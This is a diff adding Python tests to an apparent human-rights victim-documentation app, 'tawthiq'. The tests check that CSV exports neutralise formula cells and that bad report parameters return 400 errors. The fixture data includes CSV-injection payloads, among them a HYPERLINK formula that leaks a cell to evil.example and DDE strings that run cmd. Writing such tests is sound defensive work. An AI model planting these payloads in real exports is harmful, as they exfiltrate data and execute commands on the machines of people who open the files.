@@ -160,5 +160,128 @@ def test_reports_page(composed, database_url) -> None:
     listing = client.get("/reports/victims", params={"month": "2024-03", "perpetrator": "russian_forces"})
     assert listing.text.count("Russian") == 2
     bad = client.get("/reports", params={"month": "2024-13"})
-    assert bad.status_code == 409 and "YYYY-MM" in bad.text
+    assert bad.status_code == 400 and "YYYY-MM" in bad.text
     assert TestClient(client.app).get("/reports", follow_redirects=False).status_code == 303  # login needed
+
+
+# --- CSV for spreadsheets: no cell runs as a formula ------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
+                 "\tTab Person", "\rReturn Person"]
+ARABIC = "مصطفى محمد عجاج"
+HOSTILE_PLACE = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(engine):  # type: ignore[no-untyped-def]
+    """May 2024: six victims named like formulas, killed the same day in a place named like
+    one (a massacre, so the place reaches the report's tables), and one named in Arabic."""
+    with session_scope(engine) as session:
+        rows = [victim(name, "2024-05-04", "Hama", locality=HOSTILE_PLACE) for name in HOSTILE_NAMES]
+        arabic = victim("Mustafa Muhammad Ajaj", "2024-05-09", "Idlib", locality="معرة النعمان")
+        arabic.name_ar = ARABIC
+        session.add_all(rows + [arabic])
+    return engine
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def assert_no_formula(text: str, where: str) -> None:
+    rows = cells(text)
+    for row in rows:
+        assert len(row) == len(rows[0]), f"{where}: a row broken in two: {row!r}"
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), f"{where}: {cell!r} would run as a formula"
+
+
+def test_every_csv_writer_neutralises_formula_cells(hostile, tmp_path) -> None:
+    from tawthiq.reports import render_victims_csv, write_report
+
+    with session_scope(hostile) as session:
+        report = build_report(session, month="2024-05")
+        rows = victims_behind(session, month="2024-05")
+    assert report.massacres and report.massacres[0]["place"].startswith("=cmd")  # the tables do carry it
+
+    combined = render(report, "csv")
+    assert_no_formula(combined, "render_csv")
+    massacre = next(r for r in cells(combined) if r[0] == "massacres")
+    assert massacre[4] == "'" + HOSTILE_PLACE + ", Hama" and massacre[5] == "6"  # the count stays a plain number
+
+    listing = cells(render_victims_csv(rows))
+    assert_no_formula(render_victims_csv(rows), "render_victims_csv")
+    names = {row[1] for row in listing[1:]}
+    assert {"'" + name.replace("\r", "\n") for name in HOSTILE_NAMES} <= names  # a carriage return is written \n
+    arabic = next(row for row in listing[1:] if row[1] == "Mustafa Muhammad Ajaj")
+    assert arabic[2] == ARABIC and arabic[9] == "معرة النعمان" and arabic[4] == "30"
+
+    written = write_report(report, "csv", tmp_path / "out", rows)
+    csv_files = [p for p in written if p.suffix == ".csv"]
+    assert len(csv_files) == 1 + len(TABLE_NAMES) + 1  # the report, one per table, the victim list
+    for path in csv_files:
+        assert_no_formula(path.read_bytes().decode("utf-8"), path.name)
+    table = cells((tmp_path / "out" / "report-2024-05-massacres.csv").read_bytes().decode("utf-8"))
+    assert table[1][table[0].index("place")] == "'" + HOSTILE_PLACE + ", Hama"
+    victims_file = (tmp_path / "out" / "report-2024-05-victims.csv").read_bytes().decode("utf-8")
+    assert "'@SUM(1)" in victims_file and ARABIC in victims_file and "'" + ARABIC not in victims_file
+
+
+TABLE_NAMES = ("by_perpetrator", "by_governorate", "by_month", "torture", "personnel", "massacres")
+
+
+def test_report_downloads_neutralise_formula_cells(hostile, database_url) -> None:
+    from tawthiq.review.app import create_app
+    from tests.test_review import PASSWORD, login
+
+    with session_scope(hostile) as session:
+        repo.add_user(session, "amal", PASSWORD, "documenter")
+    client = login(create_app(database_url), "amal")
+    export = client.get("/reports/export", params={"month": "2024-05", "format": "csv"})
+    assert export.status_code == 200
+    assert_no_formula(export.text, "/reports/export")
+    assert "'" + HOSTILE_PLACE in export.text
+    listing = client.get("/reports/victims", params={"month": "2024-05"})
+    assert listing.status_code == 200
+    assert_no_formula(listing.text, "/reports/victims")
+    assert "'=HYPERLINK(" in listing.text and "'@SUM(1)" in listing.text and ARABIC in listing.text
+    assert "'" + ARABIC not in listing.text
+
+
+def test_bad_report_parameters_are_400_with_a_message(composed, database_url) -> None:
+    from tawthiq.review.app import create_app
+    from tests.test_review import PASSWORD, login
+
+    with session_scope(composed) as session:
+        repo.add_user(session, "amal", PASSWORD, "documenter")
+    client = login(create_app(database_url), "amal")
+    cases = [
+        ("/reports", {"month": "2024-13"}, "Month: “2024-13” is not a month; write it as YYYY-MM"),
+        ("/reports", {"month": "March"}, "is not a month"),
+        ("/reports", {"month": "0000-01"}, "outside the years reported, 1900 to 2100"),  # dt.date(0, 1, 1) was a 500
+        ("/reports", {"year": "0000"}, "Year: “0000” is outside the years reported"),
+        ("/reports", {"year": "9" * 30}, "is not a year"),
+        ("/reports", {"month": "2024-03", "year": "2024"}, "Give either a month (YYYY-MM) or a year (YYYY)"),
+        ("/reports/export", {}, "Give either a month"),
+        ("/reports/export", {"month": "2024-03", "format": "exe"}, "Format: “exe” is not one of the choices (html, md, csv, json)"),
+        ("/reports/victims", {"month": "2024-03", "perpetrator": "aliens"}, "Perpetrator: “aliens” is not one of the choices"),
+        ("/reports/victims", {"month": "2024-03", "governorate": "Atlantis"}, "Governorate: “Atlantis” is not one of the choices"),
+        ("/reports/victims", {"year": "1899"}, "outside the years reported"),
+    ]
+    for path, params, message in cases:
+        response = client.get(path, params=params)
+        assert response.status_code == 400 and message in response.text, (path, params, response.status_code, response.text[-400:])
+    client.cookies.set("tawthiq_lang", "ar")
+    arabic = client.get("/reports", params={"month": "2024-13"})
+    assert arabic.status_code == 400 and "الشهر: «2024-13» ليس شهراً" in arabic.text and 'dir="rtl"' in arabic.text
+    assert client.get("/reports", params={"month": "٢٠٢٤-٠٣"}).status_code == 200  # Arabic-Indic digits are a month
+
+
+def test_bad_periods_outside_the_years_reported(composed) -> None:
+    from tawthiq.reports import PeriodError
+
+    with session_scope(composed) as session:
+        for kwargs in ({"month": "0000-01"}, {"year": "0000"}, {"year": "2101"}, {"month": "1899-12"}):
+            with pytest.raises(PeriodError):
+                build_report(session, **kwargs)
